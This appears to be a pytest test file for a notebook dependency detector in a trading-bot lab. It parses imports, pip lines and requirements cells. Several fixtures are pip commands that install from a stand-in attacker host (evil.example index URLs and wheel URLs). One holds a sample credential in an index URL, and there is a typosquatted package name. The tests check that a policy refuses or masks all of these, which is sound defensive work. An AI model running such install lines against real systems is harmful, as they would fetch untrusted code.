"""Dependency detection on real notebooks built with nbformat."""

from __future__ import annotations

import json
from collections.abc import Mapping
from importlib import metadata
from pathlib import Path

import nbformat
import pytest
from nbformat import v4

from watchdog_lab.bots.deps import (
    IMPORT_TO_DISTRIBUTION,
    DetectedDeps,
    InstalledEnvironment,
    SourceKind,
    detect_requirements,
)
from watchdog_lab.bots.errors import NotebookError, PackageRefused
from watchdog_lab.bots.policy import DependencyPolicy
from watchdog_lab.bots.popular import canonical_name


class FixedEnvironment(InstalledEnvironment):
    """A promoting environment with exactly the given distributions installed.

    Lets a test state what is installed instead of depending on this machine's packages.
    ``files`` maps a distribution to the module paths (dotted) it ships.
    """

    def __init__(
        self,
        modules: Mapping[str, list[str]] | None = None,
        versions: Mapping[str, str] | None = None,
        files: Mapping[str, list[str]] | None = None,
    ) -> None:
        self._fixed_modules = dict(modules or {})
        self._versions = {canonical_name(k): v for k, v in (versions or {}).items()}
        self._files = dict(files or {})

    def distributions_for(self, top_level: str) -> list[str]:
        return sorted(self._fixed_modules.get(top_level, []))

    def version(self, distribution: str) -> str | None:
        return self._versions.get(canonical_name(distribution))

    def provides(self, distribution: str, module_path: str) -> bool:
        shipped = self._files.get(distribution, [])
        return any(m == module_path or m.startswith(module_path + ".") for m in shipped)


EMPTY = FixedEnvironment()


def notebook(*sources: str, tags: Mapping[int, list[str]] | None = None) -> nbformat.NotebookNode:
    cells = []
    for index, source in enumerate(sources):
        cell = v4.new_code_cell(source)
        if tags and index in tags:
            cell.metadata["tags"] = tags[index]
        cells.append(cell)
    return v4.new_notebook(cells=cells)


def specs(deps: DetectedDeps) -> list[str]:
    return deps.specs


# -- imports -------------------------------------------------------------------------------


def test_stdlib_only_notebook_needs_nothing() -> None:
    nb = notebook(
        "from __future__ import annotations\nimport os, sys, json\nimport collections.abc",
        "import asyncio\nfrom pathlib import Path\nimport importlib.metadata as md",
    )
    deps = detect_requirements(nb, environment=EMPTY)
    assert deps.requirements == []
    assert deps.warnings == []


def test_top_level_module_of_dotted_and_from_imports_is_required() -> None:
    nb = notebook("import ccxt.async_support\nfrom kalshi_python.api import markets")
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt", "kalshi-python"]


def test_aliased_import_maps_to_its_distribution_name() -> None:
    nb = notebook("import sklearn.linear_model as lm\nfrom PIL import Image\nimport cv2 as cv")
    deps = detect_requirements(nb, environment=EMPTY)
    assert specs(deps) == ["scikit-learn", "pillow", "opencv-python"]


def test_relative_imports_are_ignored() -> None:
    nb = notebook("from . import indicators\nfrom .strategy import signal\nfrom .. import up")
    assert detect_requirements(nb, environment=EMPTY).requirements == []


def test_sdk_and_kernel_imports_are_not_requirements() -> None:
    nb = notebook(
        "import watchdog_lab as wd\nfrom IPython.display import display\nimport ipykernel"
    )
    assert detect_requirements(nb, environment=EMPTY).requirements == []


def test_imports_inside_functions_classes_and_branches_count() -> None:
    nb = notebook(
        "def load():\n    import ccxt\n    return ccxt\n"
        "class Bot:\n    def run(self):\n        from yfinance import Ticker\n"
        "if True:\n    import arch\n"
    )
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt", "yfinance", "arch"]


def test_import_module_with_a_literal_name_counts() -> None:
    nb = notebook("import importlib\nccxt = importlib.import_module('ccxt')\n__import__('arch')")
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt", "arch"]


def test_markdown_and_untagged_raw_cells_are_not_scanned() -> None:
    nb = v4.new_notebook(
        cells=[v4.new_markdown_cell("import numpy\n%pip install pandas"), v4.new_raw_cell("ccxt")]
    )
    assert detect_requirements(nb, environment=EMPTY).requirements == []


def test_origin_says_which_cell_and_which_statement() -> None:
    nb = notebook("x = 1", "from yaml import safe_load")
    (requirement,) = detect_requirements(nb, environment=EMPTY).requirements
    (origin,) = requirement.origins
    assert (origin.kind, origin.cell_index) == (SourceKind.IMPORT, 1)
    assert origin.describe() == "from yaml import safe_load (cell 2)"


def test_one_distribution_imported_in_many_cells_is_one_requirement() -> None:
    nb = notebook("import yaml", "from yaml import dump", "import yaml.constructor")
    (requirement,) = detect_requirements(nb, environment=EMPTY).requirements
    assert requirement.name == "pyyaml"
    assert [o.cell_index for o in requirement.origins] == [0, 1, 2]


# -- import name to distribution -----------------------------------------------------------


def test_installed_metadata_is_preferred_over_the_table() -> None:
    env = FixedEnvironment(
        modules={"cv2": ["opencv-python-headless"]}, versions={"opencv-python-headless": "4.9.0"}
    )
    deps = detect_requirements(notebook("import cv2"), environment=env)
    assert specs(deps) == ["opencv-python-headless==4.9.0"]
    assert deps.warnings == []


def test_module_shipped_by_several_installed_distributions_is_warned_about() -> None:
    env = FixedEnvironment(modules={"cv2": ["opencv-python-headless", "opencv-contrib-python"]})
    deps = detect_requirements(notebook("import cv2"), environment=env)
    assert specs(deps) == ["opencv-contrib-python"]
    assert any("several installed distributions" in w for w in deps.warnings)


def test_table_choice_wins_among_several_installed_distributions() -> None:
    env = FixedEnvironment(modules={"cv2": ["opencv-python-headless", "opencv-python"]})
    deps = detect_requirements(notebook("import cv2"), environment=env)
    assert specs(deps) == ["opencv-python"]


def test_namespace_package_resolved_by_the_files_each_distribution_ships() -> None:
    env = FixedEnvironment(
        modules={"google": ["googleapis-common-protos", "protobuf"]},
        versions={"protobuf": "5.27.0", "googleapis-common-protos": "1.63.0"},
        files={"protobuf": ["google.protobuf"], "googleapis-common-protos": ["google.api"]},
    )
    deps = detect_requirements(notebook("from google.protobuf import message"), environment=env)
    assert specs(deps) == ["protobuf==5.27.0"]


def test_uninstalled_namespace_package_is_named_after_its_dotted_path() -> None:
    nb = notebook("from google.cloud import storage")
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["google-cloud-storage"]


def test_unresolvable_namespace_import_is_a_warning_not_a_guess() -> None:
    deps = detect_requirements(notebook("import google"), environment=EMPTY)
    assert deps.requirements == []
    assert any("import google" in w and "requirements" in w for w in deps.warnings)


def test_import_that_cannot_be_a_distribution_name_is_left_for_the_policy() -> None:
    deps = detect_requirements(notebook("import _private_mod"), environment=EMPTY)
    assert specs(deps) == ["_private_mod"]
    with pytest.raises(PackageRefused, match="invalid"):
        DependencyPolicy().check(deps.specs[0])


def test_unknown_import_keeps_its_own_name_for_the_policy_to_judge() -> None:
    deps = detect_requirements(notebook("import reqeusts"), environment=EMPTY)
    assert specs(deps) == ["reqeusts"]
    with pytest.raises(PackageRefused, match="did you mean 'requests'"):
        DependencyPolicy().check(deps.specs[0])


def test_every_table_distribution_passes_the_policy() -> None:
    """A mapping that produced a typosquat or malformed name would block honest notebooks."""
    policy = DependencyPolicy()
    refused = {}
    for module, distribution in IMPORT_TO_DISTRIBUTION.items():
        if module == "pkg_resources":
            continue  # maps to setuptools on purpose: the denylist then explains the refusal
        try:
            policy.check(distribution)
        except PackageRefused as exc:
            refused[module] = str(exc)
    assert refused == {}


def test_pkg_resources_import_surfaces_as_a_refused_setuptools() -> None:
    deps = detect_requirements(notebook("import pkg_resources"), environment=EMPTY)
    assert specs(deps) == ["setuptools"]
    with pytest.raises(PackageRefused, match="denylist"):
        DependencyPolicy().check(deps.specs[0])


# -- versions from the promoting environment -----------------------------------------------


def test_pin_comes_from_the_promoting_environment() -> None:
    deps = detect_requirements(notebook("from packaging.version import Version"))
    requirement = deps.get("packaging")
    assert requirement is not None
    assert requirement.spec == f"packaging=={metadata.version('packaging')}"
    assert requirement.installed_version == metadata.version("packaging")
    assert requirement.pinned_from_environment


def test_import_name_resolved_through_installed_metadata_is_pinned() -> None:
    deps = detect_requirements(notebook("import yaml"))
    assert specs(deps) == [f"pyyaml=={metadata.version('PyYAML')}"]


def test_uninstalled_import_stays_unpinned_with_a_warning() -> None:
    deps = detect_requirements(notebook("import ccxt"), environment=EMPTY)
    (requirement,) = deps.requirements
    assert (requirement.spec, requirement.pinned_from_environment) == ("ccxt", False)
    assert any("ccxt" in w and "cannot be pinned" in w for w in deps.warnings)


def test_explicit_unpinned_request_gets_the_environment_pin() -> None:
    env = FixedEnvironment(versions={"requests": "2.32.3"})
    deps = detect_requirements(notebook("%pip install requests"), environment=env)
    assert specs(deps) == ["requests==2.32.3"]


def test_explicit_version_is_kept_over_the_environment_pin() -> None:
    env = FixedEnvironment(versions={"requests": "2.32.3"})
    deps = detect_requirements(notebook("%pip install 'requests>=2.30'"), environment=env)
    (requirement,) = deps.requirements
    assert (requirement.spec, requirement.pinned_from_environment) == ("requests>=2.30", False)


# -- optional imports ----------------------------------------------------------------------


OPTIONAL_CELL = (
    "try:\n    import ujson as json\nexcept ImportError:\n    import json\n"
    "import contextlib\nwith contextlib.suppress(ModuleNotFoundError):\n    import orjson\n"
)


def test_guarded_import_installed_here_is_kept_and_marked_optional() -> None:
    env = FixedEnvironment(
        modules={"ujson": ["ujson"], "orjson": ["orjson"]},
        versions={"ujson": "5.10.0", "orjson": "3.10.0"},
    )
    deps = detect_requirements(notebook(OPTIONAL_CELL), environment=env)
    assert specs(deps) == ["ujson==5.10.0", "orjson==3.10.0"]
    assert all(r.optional for r in deps.requirements)


def test_guarded_import_missing_here_is_left_out_with_a_warning() -> None:
    deps = detect_requirements(notebook(OPTIONAL_CELL), environment=EMPTY)
    assert deps.requirements == []
    assert sum("optional and not installed" in w for w in deps.warnings) == 2


def test_import_guarded_against_another_error_is_required() -> None:
    nb = notebook("try:\n    import ccxt\nexcept KeyError:\n    pass")
    (requirement,) = detect_requirements(nb, environment=EMPTY).requirements
    assert not requirement.optional


def test_import_also_made_unguarded_elsewhere_is_required() -> None:
    nb = notebook("try:\n    import ccxt\nexcept ImportError:\n    ccxt = None", "import ccxt")
    (requirement,) = detect_requirements(nb, environment=EMPTY).requirements
    assert not requirement.optional


# -- IPython syntax ------------------------------------------------------------------------


def test_magics_and_shell_escapes_do_not_hide_imports() -> None:
    nb = notebook("%matplotlib inline\nimport ccxt\n!ls -la\nfiles = !ls\n%time import arch")
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt", "arch"]


def test_cell_that_still_fails_to_parse_is_a_warning_and_other_cells_still_count() -> None:
    nb = notebook("def broken(:\n    pass", "import ccxt")
    deps = detect_requirements(nb, environment=EMPTY)
    assert specs(deps) == ["ccxt"]
    assert any(w.startswith("Cell 1 is not valid Python") for w in deps.warnings)


def test_install_lines_of_a_cell_that_fails_to_parse_are_still_read() -> None:
    nb = notebook("%pip install -q ccxt\n!pip install --index-url=http://evil.example arch\nx = (")
    deps = detect_requirements(nb, environment=EMPTY)
    assert specs(deps) == ["ccxt", "--index-url=http://evil.example", "arch"]


def test_capture_cell_magic_body_is_scanned() -> None:
    nb = notebook("%%capture\n%pip install ccxt==4.3.0\nimport arch")
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt==4.3.0", "arch"]


def test_bash_cell_pip_lines_are_scanned() -> None:
    nb = notebook("%%bash\nset -e\npip install --quiet ccxt && echo done\n")
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt"]


def test_writefile_cell_body_is_not_code_the_bot_runs() -> None:
    nb = notebook("%%writefile indicators.py\nimport ccxt\n")
    assert detect_requirements(nb, environment=EMPTY).requirements == []


# -- pip lines -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "%pip install ccxt",
        "!pip install ccxt",
        "!pip3 install ccxt",
        "!python -m pip install ccxt",
        "!python3.11 -m pip install ccxt",
        "!{sys.executable} -m pip install ccxt",
        "%uv pip install ccxt",
        "!uv pip install ccxt",
        "out = !pip install ccxt",
        "!pip -q install ccxt 2>&1 > /dev/null",
        "!PIP_NO_INPUT=1 pip install ccxt",
    ],
)
def test_every_common_form_of_pip_install_is_detected(line: str) -> None:
    deps = detect_requirements(notebook(line), environment=EMPTY)
    assert specs(deps) == ["ccxt"]
    assert deps.requirements[0].origins[0].kind is SourceKind.PIP


def test_harmless_pip_options_are_dropped_and_every_package_kept() -> None:
    nb = notebook(
        "%pip install -U --quiet -qq --no-cache-dir --progress-bar off --timeout=30 "
        "ccxt==4.3.0 'pandas>=2,<3' arch"
    )
    assert specs(detect_requirements(nb, environment=EMPTY)) == [
        "ccxt==4.3.0",
        "pandas<3,>=2",
        "arch",
    ]


@pytest.mark.parametrize(
    ("line", "raw"),
    [
        ("%pip install -r requirements.txt", "-r requirements.txt"),
        ("%pip install -rrequirements.txt", "-rrequirements.txt"),
        ("%pip install -e git+https://github.com/x/y", "-e git+https://github.com/x/y"),
        ("%pip install --index-url http://evil.example/simple ccxt", "--index-url http://evil.example/simple"),
        ("%pip install --index-url=http://evil.example/simple ccxt", "--index-url=http://evil.example/simple"),
        ("%pip install --extra-index-url http://evil.example ccxt", "--extra-index-url http://evil.example"),
        ("%pip install https://evil.example/x.whl", "https://evil.example/x.whl"),
        ("%pip install ./local-pkg", "./local-pkg"),
        ("%pip install /abs/pkg", "/abs/pkg"),
        ("%pip install 'ccxt @ https://evil.example/c.whl'", "ccxt @ https://evil.example/c.whl"),
        ("%pip install 'numpy[dev]'", "numpy[dev]"),
        ("%pip install --some-new-option ccxt", "--some-new-option"),
        ("!pip install {package}", "{package}"),
    ],
)  # fmt: skip
def test_requests_the_policy_must_judge_are_kept_verbatim(line: str, raw: str) -> None:
    deps = detect_requirements(notebook(line), environment=EMPTY)
    assert raw in specs(deps)
    with pytest.raises(PackageRefused):
        DependencyPolicy().check(raw)


def test_unquoted_version_comparison_is_a_shell_redirection_and_warned() -> None:
    deps = detect_requirements(notebook("!pip install ccxt>=4"), environment=EMPTY)
    assert specs(deps) == ["ccxt"]
    assert any("redirection" in w for w in deps.warnings)


def test_url_credentials_in_pip_lines_are_masked_everywhere() -> None:
    nb = notebook("%pip install --index-url https://me:hunter2@pypi.corp.example/simple ccxt")
    dumped = detect_requirements(nb, environment=EMPTY).model_dump_json()
    assert "hunter2" not in dumped
    assert "pypi.corp.example" in dumped


def test_provided_packages_requested_explicitly_are_ignored_with_a_warning() -> None:
    deps = detect_requirements(
        notebook("%pip install ipykernel==6.0 watchdog-lab"), environment=EMPTY
    )
    assert deps.requirements == []
    assert sum("already provides" in w for w in deps.warnings) == 2


def test_conda_installs_are_warned_about() -> None:
    deps = detect_requirements(
        notebook("%conda install ta-lib", "!mamba install x"), environment=EMPTY
    )
    assert deps.requirements == []
    assert sum("conda" in w for w in deps.warnings) == 2


def test_later_pip_line_for_the_same_distribution_wins_with_a_warning() -> None:
    nb = notebook("%pip install ccxt==4.0", "%pip install CCXT==4.3")
    deps = detect_requirements(nb, environment=EMPTY)
    assert specs(deps) == ["ccxt==4.3"]
    assert any("ccxt==4.0" in w and "CCXT==4.3" in w for w in deps.warnings)


# -- requirements cell ---------------------------------------------------------------------


REQUIREMENTS = """# pinned for the live bot
ccxt==4.3.0
pandas>=2  # inline comment

-r more.txt
%pip install arch
"""


def test_cell_tagged_requirements_lists_one_requirement_per_line() -> None:
    cell = v4.new_raw_cell(REQUIREMENTS, metadata={"tags": ["requirements"]})
    deps = detect_requirements(v4.new_notebook(cells=[cell]), environment=EMPTY)
    assert specs(deps) == ["ccxt==4.3.0", "pandas>=2", "-r more.txt", "arch"]
    assert {o.kind for r in deps.requirements for o in r.origins} == {SourceKind.REQUIREMENTS_CELL}


def test_url_credentials_in_a_requirements_cell_are_masked_everywhere() -> None:
    line = "--extra-index-url https://me:hunter2@pypi.corp.example/simple"
    cell = v4.new_raw_cell(line, metadata={"tags": ["requirements"]})
    deps = detect_requirements(v4.new_notebook(cells=[cell]), environment=EMPTY)
    assert "hunter2" not in deps.model_dump_json()
    assert specs(deps) == ["--extra-index-url https://***@pypi.corp.example/simple"]


def test_tagged_code_cell_is_read_as_requirements_not_python() -> None:
    nb = notebook("ccxt==4.3.0\npandas>=2", tags={0: ["parameters", "requirements"]})
    deps = detect_requirements(nb, environment=EMPTY)
    assert specs(deps) == ["ccxt==4.3.0", "pandas>=2"]
    assert deps.warnings == []  # not reported as a cell that failed to parse


def test_explicit_requirements_win_over_imports_after_normalisation() -> None:
    nb = notebook("import yaml\nimport ccxt", "%pip install PyYAML==6.0.1")
    nb.cells.append(v4.new_raw_cell("CCXT==4.3.0", metadata={"tags": ["requirements"]}))
    deps = detect_requirements(nb, environment=EMPTY)
    assert specs(deps) == ["pyyaml==6.0.1", "ccxt==4.3.0"]
    ccxt = deps.get("ccxt")
    assert ccxt is not None and ccxt.explicit
    assert [o.kind for o in ccxt.origins] == [SourceKind.IMPORT, SourceKind.REQUIREMENTS_CELL]


def test_requirements_cell_wins_over_a_pip_line() -> None:
    nb = notebook("%pip install ccxt==4.0")
    nb.cells.insert(0, v4.new_raw_cell("ccxt>=4.3", metadata={"tags": ["requirements"]}))
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt>=4.3"]


# -- reading notebooks ---------------------------------------------------------------------


def test_notebook_is_read_from_a_path(tmp_path: Path) -> None:
    path = tmp_path / "strategy.ipynb"
    nbformat.write(notebook("import ccxt"), path)
    assert specs(detect_requirements(path, environment=EMPTY)) == ["ccxt"]
    assert specs(detect_requirements(str(path), environment=EMPTY)) == ["ccxt"]


def test_module_next_to_the_notebook_is_not_a_package(tmp_path: Path) -> None:
    (tmp_path / "signals.py").write_text("X = 1\n")
    (tmp_path / "indicators").mkdir()
    path = tmp_path / "strategy.ipynb"
    nbformat.write(notebook("import signals\nfrom indicators import rsi\nimport ccxt"), path)
    deps = detect_requirements(path, environment=EMPTY)
    assert specs(deps) == ["ccxt"]
    assert sum("next to the notebook" in w for w in deps.warnings) == 2


def test_notebook_in_another_language_is_refused() -> None:
    nb = notebook("library(ggplot2)")
    nb.metadata["kernelspec"] = {"name": "ir", "language": "R", "display_name": "R"}
    with pytest.raises(NotebookError, match="runs R,"):
        detect_requirements(nb, environment=EMPTY)


def test_python_kernel_metadata_is_accepted() -> None:
    nb = notebook("import ccxt")
    nb.metadata["kernelspec"] = {"name": "python3", "language": "python", "display_name": "Py"}
    nb.metadata["language_info"] = {"name": "python", "version": "3.11"}
    assert specs(detect_requirements(nb, environment=EMPTY)) == ["ccxt"]


def test_plain_dict_notebook_is_accepted() -> None:
    as_dict = json.loads(nbformat.writes(notebook("import ccxt")))
    assert specs(detect_requirements(as_dict, environment=EMPTY)) == ["ccxt"]


def test_cell_source_stored_as_a_list_of_lines_is_joined() -> None:
    as_dict = json.loads(nbformat.writes(notebook("x = 1")))
    as_dict["cells"][0]["source"] = ["import ccxt\n", "import arch\n"]
    assert specs(detect_requirements(as_dict, environment=EMPTY)) == ["ccxt", "arch"]


def test_missing_notebook_is_a_notebook_error(tmp_path: Path) -> None:
    with pytest.raises(NotebookError, match="does not exist"):
        detect_requirements(tmp_path / "nope.ipynb")


@pytest.mark.parametrize("content", ["not json at all", '{"cells": 3}', "[]"])
def test_unreadable_notebook_is_a_notebook_error(tmp_path: Path, content: str) -> None:
    path = tmp_path / "bad.ipynb"
    path.write_text(content)
    with pytest.raises(NotebookError):
        detect_requirements(path)


def test_result_round_trips_through_json() -> None:
    deps = detect_requirements(notebook("import ccxt", "def f(:"), environment=EMPTY)
    assert DetectedDeps.model_validate_json(deps.model_dump_json()) == deps


# -- the real promoting environment --------------------------------------------------------


def test_installed_environment_maps_modules_to_installed_distributions() -> None:
    env = InstalledEnvironment()
    assert [canonical_name(d) for d in env.distributions_for("yaml")] == ["pyyaml"]
    assert env.distributions_for("surely_no_such_module_here") == []


def test_installed_environment_reports_versions_only_of_installed_distributions() -> None:
    env = InstalledEnvironment()
    assert env.version("packaging") == metadata.version("packaging")
    assert env.version("surely-no-such-distribution-here") is None


def test_installed_environment_knows_which_modules_a_distribution_ships() -> None:
    env = InstalledEnvironment()
    assert env.provides("packaging", "packaging.version")
    assert env.provides("packaging", "packaging")
    assert not env.provides("packaging", "yaml")
    assert not env.provides("surely-no-such-distribution-here", "packaging")


def test_parsed_notebook_given_its_folder_skips_modules_next_to_it(tmp_path: Path) -> None:
    (tmp_path / "mystrategy_utils.py").write_text("X = 1\n")
    nb = notebook("import mystrategy_utils\nimport ccxt")
    deps = detect_requirements(nb, folder=tmp_path, environment=EMPTY)
    assert specs(deps) == ["ccxt"]
    assert deps.local_modules == ["mystrategy_utils"]


def test_local_module_shadows_an_installed_distribution_of_the_same_name(tmp_path: Path) -> None:
    (tmp_path / "ccxt").mkdir()
    (tmp_path / "ccxt" / "__init__.py").write_text("")
    installed = FixedEnvironment(modules={"ccxt": ["ccxt"]}, versions={"ccxt": "4.2.0"})
    deps = detect_requirements(notebook("import ccxt.pro"), folder=tmp_path, environment=installed)
    assert specs(deps) == [] and deps.local_modules == ["ccxt"]


def test_folder_without_init_loses_to_an_installed_package(tmp_path: Path) -> None:
    (tmp_path / "ccxt").mkdir()  # e.g. a data folder: Python imports the installed package
    installed = FixedEnvironment(modules={"ccxt": ["ccxt"]}, versions={"ccxt": "4.2.0"})
    deps = detect_requirements(notebook("import ccxt"), folder=tmp_path, environment=installed)
    assert specs(deps) == ["ccxt==4.2.0"] and deps.local_modules == []


def test_explicit_request_for_an_imported_local_module_is_left_out(tmp_path: Path) -> None:
    (tmp_path / "mystrategy_utils.py").write_text("X = 1\n")
    nb = notebook("%pip install mystrategy-utils ccxt", "import mystrategy_utils")
    deps = detect_requirements(nb, folder=tmp_path, environment=EMPTY)
    assert specs(deps) == ["ccxt"]
    assert any("would take its place" in w for w in deps.warnings)


def test_a_local_module_imported_many_times_is_warned_about_once(tmp_path: Path) -> None:
    (tmp_path / "helpers.py").write_text("X = 1\n")
    nb = notebook("import helpers", "from helpers import X", "import helpers.sub")
    deps = detect_requirements(nb, folder=tmp_path, environment=EMPTY)
    assert deps.local_modules == ["helpers"]
    assert sum("next to the notebook" in w for w in deps.warnings) == 1
